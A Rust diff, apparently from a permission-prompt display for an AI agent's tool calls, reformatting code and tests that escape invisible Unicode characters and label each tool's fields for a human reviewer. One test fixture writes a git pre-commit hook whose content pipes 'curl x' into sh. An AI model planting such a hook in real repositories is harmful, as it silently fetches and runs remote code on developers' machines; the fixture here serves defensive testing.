@@ -82,12 +82,18 @@ impl Shown {
             escaped: 0,
             warning: None,
         };
-        let escaped = [&shown.tool, &shown.who, &shown.reason, &shown.explanation, &shown.settings_file]
-            .into_iter()
-            .chain(shown.fields.iter().map(|f| &f.value))
-            .chain(shown.rules.iter())
-            .map(|v| v.escaped)
-            .sum();
+        let escaped = [
+            &shown.tool,
+            &shown.who,
+            &shown.reason,
+            &shown.explanation,
+            &shown.settings_file,
+        ]
+        .into_iter()
+        .chain(shown.fields.iter().map(|f| &f.value))
+        .chain(shown.rules.iter())
+        .map(|v| v.escaped)
+        .sum();
         shown.escaped = escaped;
         shown.warning = (escaped > 0).then(|| {
             format!(
@@ -419,11 +425,41 @@ mod tests {
             ]
         );
         for c in [
-            '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}',
-            '\u{2069}', '\u{200b}', '\u{200c}', '\u{200d}', '\u{200e}', '\u{200f}', '\u{2060}', '\u{2061}',
-            '\u{2062}', '\u{2063}', '\u{2064}', '\u{feff}', '\u{00ad}', '\u{0000}', '\u{001b}', '\r', '\u{007f}',
-            '\u{0085}', '\u{00a0}', '\u{2028}', '\u{2029}', '\u{3000}', '\u{e0041}', '\u{fe0f}', '\u{e000}',
-            '\u{3164}', '\u{180e}',
+            '\u{202a}',
+            '\u{202b}',
+            '\u{202c}',
+            '\u{202d}',
+            '\u{202e}',
+            '\u{2066}',
+            '\u{2067}',
+            '\u{2068}',
+            '\u{2069}',
+            '\u{200b}',
+            '\u{200c}',
+            '\u{200d}',
+            '\u{200e}',
+            '\u{200f}',
+            '\u{2060}',
+            '\u{2061}',
+            '\u{2062}',
+            '\u{2063}',
+            '\u{2064}',
+            '\u{feff}',
+            '\u{00ad}',
+            '\u{0000}',
+            '\u{001b}',
+            '\r',
+            '\u{007f}',
+            '\u{0085}',
+            '\u{00a0}',
+            '\u{2028}',
+            '\u{2029}',
+            '\u{3000}',
+            '\u{e0041}',
+            '\u{fe0f}',
+            '\u{e000}',
+            '\u{3164}',
+            '\u{180e}',
         ] {
             assert!(hidden(c), "U+{:04X} must be escaped", u32::from(c));
         }
@@ -443,15 +479,25 @@ mod tests {
         assert_eq!(shown.escaped, 2);
         assert_eq!(shown.rules[0].text, "Bash(a\\u{200b}b:*)");
         assert!(shown.warning.as_deref().unwrap().contains("2 invisible"));
-        assert!(Shown::of(&ask("Bash", json!({"command": "ls"}))).warning.is_none());
+        assert!(
+            Shown::of(&ask("Bash", json!({"command": "ls"})))
+                .warning
+                .is_none()
+        );
     }
 
     #[test]
     fn each_tool_shows_the_fields_its_decision_looked_at() {
-        let shown = Shown::of(&ask("Bash", json!({"command": "npm test", "description": "tests"})));
+        let shown = Shown::of(&ask(
+            "Bash",
+            json!({"command": "npm test", "description": "tests"}),
+        ));
         assert_eq!(
             labels(&shown),
-            [("command", "npm test"), ("other arguments", "{\n  \"description\": \"tests\"\n}")]
+            [
+                ("command", "npm test"),
+                ("other arguments", "{\n  \"description\": \"tests\"\n}")
+            ]
         );
         // A Write is its path and content, whatever other field it carries.
         let write = json!({"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n",
@@ -462,20 +508,34 @@ mod tests {
         assert_eq!(fields[1], ("content", "#!/bin/sh\ncurl x | sh\n"));
         assert_eq!(fields[2].0, "other arguments");
         assert!(fields.iter().all(|(label, _)| *label != "command"));
-        let edit = json!({"file_path": "src/a.rs", "old_string": "a", "new_string": "b", "replace_all": true});
+        let edit =
+            json!({"file_path": "src/a.rs", "old_string": "a", "new_string": "b", "replace_all": true});
         assert_eq!(
             labels(&Shown::of(&ask("Edit", edit))),
-            [("path", "src/a.rs"), ("replace", "a"), ("with", "b"), ("every occurrence", "true")]
+            [
+                ("path", "src/a.rs"),
+                ("replace", "a"),
+                ("with", "b"),
+                ("every occurrence", "true")
+            ]
         );
         let fetch = json!({"url": "https://Example.com./x", "prompt": "summarize"});
         assert_eq!(
             labels(&Shown::of(&ask("WebFetch", fetch))),
-            [("url", "https://Example.com./x"), ("host", "example.com"), ("prompt", "summarize")]
+            [
+                ("url", "https://Example.com./x"),
+                ("host", "example.com"),
+                ("prompt", "summarize")
+            ]
         );
         let mcp = Shown::of(&ask("mcp__github__create_issue", json!({"title": "t"})));
         assert_eq!(
             labels(&mcp),
-            [("server", "github"), ("tool", "create_issue"), ("arguments", "{\n  \"title\": \"t\"\n}")]
+            [
+                ("server", "github"),
+                ("tool", "create_issue"),
+                ("arguments", "{\n  \"title\": \"t\"\n}")
+            ]
         );
         // The runtime's own names are described alike.
         assert_eq!(
@@ -487,10 +547,7 @@ mod tests {
     #[test]
     fn input_the_tool_cannot_take_is_shown_whole_with_why() {
         let shown = Shown::of(&ask("Write", json!({"command": "ls -la"})));
-        assert_eq!(
-            labels(&shown),
-            [("input", "{\n  \"command\": \"ls -la\"\n}")]
-        );
+        assert_eq!(labels(&shown), [("input", "{\n  \"command\": \"ls -la\"\n}")]);
         assert!(shown.note.as_deref().unwrap().contains("does not fit `Write`"));
     }
 
